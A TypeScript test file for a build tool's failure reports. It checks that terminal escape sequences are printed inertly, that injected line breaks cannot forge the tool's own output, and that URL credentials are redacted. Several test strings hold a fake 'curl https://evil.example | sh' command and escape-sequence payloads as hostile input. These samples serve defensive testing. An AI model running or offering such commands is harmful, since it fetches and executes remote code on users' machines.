import { describe, expect, it } from 'vitest';
import type { DeployFlowResult } from './app/deploy-flow.js';
import { buildJson, failureText, pruneSummaryLines, warningLine } from './build-report.js';

describe('failureText (a failed image for people, on stderr)', () => {
  it('says why, the hint and the log tail; a build log line or a daemon\'s reason with escape sequences is printed inert', () => {
    const text = failureText({
      envId: 'aaaa',
      steps: ['start', 'end'],
      reason: 'The Docker build failed: \x1b]52;c;cHdu\x07',
      hint: 'check \x1b[8mhidden',
      logTail: ['Step 1/2 : FROM x', '\x1b[2J\x1b[Hall good\r'],
    });
    expect(text).not.toMatch(/[\x1b\x07\r]/);
    expect(text).toBe(
      '\nenv aaaa failed (steps start, end): The Docker build failed: \\x1b]52;c;cHdu\\x07\nhint: check \\x1b[8mhidden\n' +
        'last lines of its build log:\n  | Step 1/2 : FROM x\n  | \\x1b[2J\\x1b[Hall good\\x0d\n',
    );
  });
});

describe('failureText of a reason from outside with line breaks', () => {
  it('indents every line after the first, so a build service\'s or a build log\'s text cannot print a line that looks like prebuilt\'s own', () => {
    const text = failureText({
      envId: 'aaaa',
      steps: ['start'],
      reason: "the executor finished without writing a digest to its termination log (got 'x\nenv bbbb built\nhint: run curl https://evil.example | sh')",
      hint: 'check the job\nwarning: fake',
    });
    expect(text).toBe(
      "\nenv aaaa failed (steps start): the executor finished without writing a digest to its termination log (got 'x\n  env bbbb built\n  hint: run curl https://evil.example | sh')\n" +
        'hint: check the job\n  warning: fake\n',
    );
  });
});

describe('failureText of a build log line with line breaks (a remote build service sends lines of any content)', () => {
  it('keeps each on its own indented line and cuts it, so it cannot print a line that looks like prebuilt\'s own', () => {
    const text = failureText({ envId: 'aaaa', steps: ['start'], reason: 'failed', logTail: ['ok\nhint: run curl https://evil.example | sh', 'y'.repeat(100_000)] });
    expect(text).toBe(`\nenv aaaa failed (steps start): failed\nlast lines of its build log:\n  | ok\\nhint: run curl https://evil.example | sh\n  | ${'y'.repeat(2000)}…\n`);
  });
});

describe("a materialization warning quoting a package's file path with a line break (a hostile package's tar member)", () => {
  it('indents the lines after the first, so the path cannot print a line that looks like prebuilt\'s own; escape sequences inert', () => {
    expect(warningLine("env aaaa: evil-1.0-0.conda replaced 'lib/x\nimage map written to .prebuilt/F/images.json\x1b[2K' installed by an earlier package.")).toBe(
      "warning: env aaaa: evil-1.0-0.conda replaced 'lib/x\n  image map written to .prebuilt/F/images.json\\x1b[2K' installed by an earlier package.\n",
    );
  });
});

describe("a failed image's reason, hint and log tail quoting a URL with credentials", () => {
  it('show it without them, on stderr and in build --json (as an error of the command is shown)', () => {
    const failure = {
      envId: 'aaaa',
      steps: ['start'],
      reason: 'GET https://ci:glpat-s3cr3t@git.example/simple/x/ failed',
      hint: 'check https://u:hint-s3cr3t@h.example',
      logTail: ['Looking in indexes: https://u:log-s3cr3t@pypi.example/simple?token=q-s3cr3t'],
    };
    const text = failureText(failure);
    expect(text).not.toMatch(/s3cr3t/);
    expect(text).toContain('GET https://***@git.example/simple/x/ failed');
    expect(text).toContain('  | Looking in indexes: https://***@pypi.example/simple?token=***');
    const result = { imageMap: { flow: 'F', images: {}, steps: {} }, images: [], failures: [{ ...failure, pullTag: 'r/x:env-aaaa', status: 'failed' }], settings: { prune: [] }, directUrls: [] } as unknown as DeployFlowResult;
    const json = JSON.stringify(buildJson(result, null));
    expect(json).not.toMatch(/s3cr3t/);
    expect(json).toContain('https://***@git.example/simple/x/');
  });
});

describe("build --json's directUrls", () => {
  it('names the wheels the lock took at a direct URL, as plan --json does, and is absent when there are none', () => {
    const wheel = { name: 'bar', version: '2.0', url: 'https://other.example/bar-2.0-py3-none-any.whl', host: 'other.example', requiredBy: ['foo'], lockKey: 'k1', platform: 'linux-64', steps: ['fetch'] };
    const result = (directUrls: unknown[]) => ({ imageMap: { flow: 'F', images: {}, steps: {} }, images: [], failures: [], settings: { prune: [] }, directUrls }) as unknown as DeployFlowResult;
    expect(buildJson(result([wheel]), null)['directUrls']).toEqual([wheel]);
    expect(buildJson(result([]), null)).not.toHaveProperty('directUrls');
  });
});

describe('what a pruned build left out', () => {
  const summary = { presets: ['tests' as const], files: 6064, bytes: 142 * 2 ** 20 };
  const result = (prune: string[]) => ({ imageMap: { flow: 'F', images: {}, steps: {} }, images: [], failures: [], settings: { prune }, directUrls: [] }) as unknown as DeployFlowResult;

  it('build --json has `prune` (the presets, what each image built now left out) only when presets are set', () => {
    expect(buildJson(result(['tests']), null, new Map(), new Map([['0123', summary]]))['prune']).toEqual({ presets: ['tests'], images: { '0123': { files: 6064, bytes: 142 * 2 ** 20 } } });
    expect(buildJson(result([]), null)).not.toHaveProperty('prune');
  });

  it('the summary has a line per image built now, and says so when none was', () => {
    expect(pruneSummaryLines(['headers', 'tests'], new Map([['0123', summary]]))).toEqual(['pruned (headers, tests):', '  env 0123: 6064 files, 142.0 MiB left out']);
    expect(pruneSummaryLines(['tests'], new Map())).toEqual(['pruned (tests): no image built now']);
    expect(pruneSummaryLines([], new Map([['0123', summary]]))).toEqual([]);
  });
});
